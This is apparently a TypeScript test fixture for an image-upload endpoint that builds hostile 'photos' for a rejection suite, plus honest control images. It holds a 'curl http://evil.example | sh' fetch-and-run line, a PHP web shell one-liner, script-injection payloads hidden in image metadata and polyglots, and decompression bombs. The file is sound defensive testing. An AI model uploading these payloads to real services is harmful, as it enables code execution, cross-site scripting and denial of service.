import { crc32, deflateSync } from 'node:zlib';
import { greyJpeg, solidPng } from '../features/complaint/test-images.ts';

/** Files an attacker uploads as "photos", built byte by byte: each one names what it tries. */
export interface HostileFile {
  name: string;
  filename: string;
  type: string;
  bytes: Buffer;
}

const text = (s: string) => Buffer.from(s, 'latin1');
const SCRIPT = '<script>fetch("/online/user-problem/problem-list"+location.search)</script>';

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([text(type), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A PNG whose IHDR declares `width`×`height` over the few real pixels of a 4×4 one (a decompression bomb's header). */
function pngDeclaring(width: number, height: number): Buffer {
  const png = Buffer.from(solidPng());
  const ihdr = png.subarray(8);
  const header = Buffer.from(ihdr.subarray(8, 21));
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  return Buffer.concat([png.subarray(0, 8), pngChunk('IHDR', header), png.subarray(8 + 25)]);
}

/** A PNG of `width`×`height` (8-bit RGB) whose IDAT holds `data`: a zlib stream, or anything an attacker likes. */
function pngWithImageData(width: number, height: number, data: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', data),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

let bomb: Buffer | undefined;
/**
 * A real, valid 7000 × 7000 black PNG: 147 MB of pixels deflated to 143 KB. Every byte is honest, so only a pixel
 * cap stops it from taking 147 MB (and more while decoding) per upload. Built once (about a second).
 */
export function decompressionBomb(): Buffer {
  bomb ??= pngWithImageData(7000, 7000, deflateSync(Buffer.alloc(7000 * (1 + 7000 * 3)), { level: 9 }));
  return bomb;
}

/**
 * A PNG whose pixels spell an HTML page: each row is a filter byte and then the page's bytes as RGB values, stored
 * uncompressed (a "stored" deflate block), so the markup sits in the file in clear. It decodes: it is accepted
 * only as pixels, and the served copy, encoded again, no longer holds the markup.
 */
export function pngWithMarkupPixels(markup: string): Buffer {
  const width = Math.ceil(markup.length / 3);
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(markup.padEnd(width * 3, ' '), 'latin1')]);
  const raw = Buffer.concat([row, row]);
  return pngWithImageData(width, 2, deflateSync(raw, { level: 0 }));
}

/** The grey JPEG with its start-of-frame dimensions replaced. */
function jpegDeclaring(width: number, height: number): Buffer {
  const jpeg = Buffer.from(greyJpeg());
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && jpeg[i + 1] === 0xc0) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
  }
  throw new Error('no SOF0 in the test JPEG');
}

/** The grey JPEG with an extra segment (a comment, an APP1) right after its start marker. */
function jpegWithSegment(marker: number, body: Buffer): Buffer {
  const jpeg = greyJpeg();
  const head = Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff]);
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

/** The classic 1×1 lossless WebP. */
export const tinyWebp = () => Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');

function riff(chunks: Buffer[]): Buffer {
  const body = Buffer.concat([text('WEBP'), ...chunks]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return Buffer.concat([text('RIFF'), size, body]);
}

function webpChunk(type: string, data: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  return Buffer.concat([text(type), size, data, data.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
}

/** An extended WebP whose canvas is `width`×`height`, holding the 1×1 picture. */
function webpDeclaring(width: number, height: number): Buffer {
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(width - 1, 4, 3);
  vp8x.writeUIntLE(height - 1, 7, 3);
  const vp8l = tinyWebp().subarray(12);
  return riff([webpChunk('VP8X', vp8x), vp8l]);
}

function box(type: string, ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(body.length + 8);
  return Buffer.concat([size, text(type), body]);
}

/** A HEIC container (ftyp, meta with an image spatial extent, mdat) declaring `width`×`height`. */
export function heicDeclaring(width: number, height: number): Buffer {
  const ispe = Buffer.alloc(12);
  ispe.writeUInt32BE(width, 4);
  ispe.writeUInt32BE(height, 8);
  const ftyp = box('ftyp', text('heic'), Buffer.alloc(4), text('mif1heic'));
  const meta = box('meta', Buffer.alloc(4), box('iprp', box('ipco', box('ispe', ispe))));
  return Buffer.concat([ftyp, meta, box('mdat', Buffer.alloc(64, 7))]);
}

const elf = () => {
  const b = Buffer.alloc(256);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  b.writeUInt16LE(2, 16); // an executable
  b.writeUInt16LE(0x3e, 18); // x86-64
  return b;
};

const pe = () => {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  return b;
};

const jpegJfifHead = () =>
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]);

const asJpeg = (name: string, bytes: Buffer): HostileFile => ({
  name,
  filename: 'photo.jpg',
  type: 'image/jpeg',
  bytes,
});

/** Every hostile file of the suite; each must be refused on its content. */
export function hostileFiles(): HostileFile[] {
  const page = `<!doctype html><html><body>${SCRIPT}</body></html>`;
  return [
    asJpeg('ELF executable renamed .jpg', elf()),
    asJpeg('Windows PE executable renamed .jpg', pe()),
    asJpeg('shell script renamed .jpg', text(`#!/bin/sh\ncurl http://evil.example | sh\n`)),
    {
      name: 'SVG with script',
      filename: 'photo.svg',
      type: 'image/svg+xml',
      bytes: text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    },
    asJpeg(
      'SVG with script renamed .jpg',
      text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
    ),
    { name: 'HTML page', filename: 'photo.html', type: 'text/html', bytes: text(page) },
    asJpeg('HTML page renamed .jpg', text(page)),
    asJpeg(
      'PDF with JavaScript renamed .jpg',
      text('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
    ),
    asJpeg(
      'ZIP (a jar, a docx) renamed .jpg',
      Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(60)]),
    ),
    asJpeg('PHP renamed .jpg', text('<?php system($_GET["c"]); ?>')),
    {
      name: 'GIF header followed by HTML (GIFAR-style polyglot)',
      filename: 'photo.gif',
      type: 'image/gif',
      bytes: text(`GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;${page}`),
    },
    asJpeg('JPEG header followed by an HTML page (polyglot)', Buffer.concat([jpegJfifHead(), text(page)])),
    asJpeg('whole JPEG with an HTML page after its end (polyglot)', Buffer.concat([greyJpeg(), text(page)])),
    asJpeg('whole JPEG with a script in a comment segment', jpegWithSegment(0xfe, text(SCRIPT))),
    asJpeg(
      'whole JPEG with an HTML page in its EXIF segment',
      jpegWithSegment(0xe1, Buffer.concat([text('Exif\0\0'), text(page)])),
    ),
    {
      name: 'whole PNG with an HTML page after IEND (polyglot)',
      filename: 'p.png',
      type: 'image/png',
      bytes: Buffer.concat([solidPng(), text(page)]),
    },
    {
      name: 'PNG with a script in a tEXt chunk',
      filename: 'p.png',
      type: 'image/png',
      bytes: (() => {
        const png = solidPng();
        return Buffer.concat([png.subarray(0, 33), pngChunk('tEXt', text(`Comment\0${SCRIPT}`)), png.subarray(33)]);
      })(),
    },
    {
      name: 'WebP with an HTML page in an XMP chunk',
      filename: 'p.webp',
      type: 'image/webp',
      bytes: riff([tinyWebp().subarray(12), webpChunk('XMP ', text(page))]),
    },
    { name: 'empty file', filename: 'photo.jpg', type: 'image/jpeg', bytes: Buffer.alloc(0) },
    asJpeg('11 MB file', Buffer.concat([greyJpeg(), Buffer.alloc(11 * 1024 * 1024)])),
    {
      name: 'PNG bomb: 50 000 × 50 000 declared in 100 bytes',
      filename: 'p.png',
      type: 'image/png',
      bytes: pngDeclaring(50_000, 50_000),
    },
    asJpeg('JPEG bomb: 50 000 × 50 000 declared', jpegDeclaring(50_000, 50_000)),
    {
      name: 'WebP bomb: 50 000 × 50 000 canvas',
      filename: 'p.webp',
      type: 'image/webp',
      bytes: webpDeclaring(50_000, 50_000),
    },
    {
      name: 'HEIC bomb: 50 000 × 50 000 declared',
      filename: 'p.heic',
      type: 'image/heic',
      bytes: heicDeclaring(50_000, 50_000),
    },
    asJpeg('truncated JPEG (no frame, no end)', greyJpeg().subarray(0, 40)),
    {
      name: 'PNG with an HTML page as its image data (not a zlib stream)',
      filename: 'p.png',
      type: 'image/png',
      bytes: pngWithImageData(64, 64, text(page)),
    },
    {
      name: 'PNG decompression bomb: a real 7000 × 7000 picture in 143 KB',
      filename: 'p.png',
      type: 'image/png',
      bytes: decompressionBomb(),
    },
    {
      name: '49-megapixel PNG (7000 × 7000) that does not decode',
      filename: 'p.png',
      type: 'image/png',
      bytes: pngWithImageData(7000, 7000, deflateSync(Buffer.alloc(4096)).subarray(0, 40)),
    },
    {
      name: '1000 × 1000 PNG whose pixel data stops short (well formed around it)',
      filename: 'p.png',
      type: 'image/png',
      bytes: pngWithImageData(1000, 1000, deflateSync(Buffer.alloc(1000 * 3001)).subarray(0, 200)),
    },
    {
      name: 'HEIC (the server cannot decode HEVC)',
      filename: 'p.heic',
      type: 'image/heic',
      bytes: heicDeclaring(4032, 3024),
    },
  ];
}

/** Real photos of every accepted format: the suite checks they still pass, so "refuse everything" cannot win. */
export function honestFiles(): HostileFile[] {
  return [
    { name: 'PNG', filename: 'p.png', type: 'image/png', bytes: solidPng() },
    { name: 'JPEG', filename: 'p.jpg', type: 'image/jpeg', bytes: greyJpeg() },
    { name: 'WebP', filename: 'p.webp', type: 'image/webp', bytes: tinyWebp() },
    {
      name: 'JPEG with a second picture appended (MPF)',
      filename: 'p.jpg',
      type: 'image/jpeg',
      bytes: Buffer.concat([greyJpeg(), greyJpeg()]),
    },
  ];
}

/** EXIF's pointer to the GPS block (tag 0x8825), as it appears in little-endian EXIF. */
export const EXIF_GPS_POINTER = Buffer.from([0x25, 0x88]);

/**
 * A phone photo as a camera writes it: 16 × 8 pixels stored sideways with EXIF Orientation 6 (shown 8 × 16), the
 * phone's make and model and the GPS position where it was taken (Mexico City). Made with sharp, the library the
 * server decodes with, so it is a photo any viewer opens.
 */
export async function photoWithGps(): Promise<HostileFile> {
  const { default: sharp } = await import('sharp');
  const bytes = await sharp({ create: { width: 16, height: 8, channels: 3, background: { r: 200, g: 40, b: 40 } } })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'Apple', Model: 'iPhone 15 Pro' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '19/1 25/1 4200/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '99/1 7/1 3000/100',
      },
    })
    .jpeg()
    .toBuffer();
  return {
    name: 'JPEG with EXIF orientation, camera and GPS position',
    filename: 'IMG_0001.JPG',
    type: 'image/jpeg',
    bytes,
  };
}
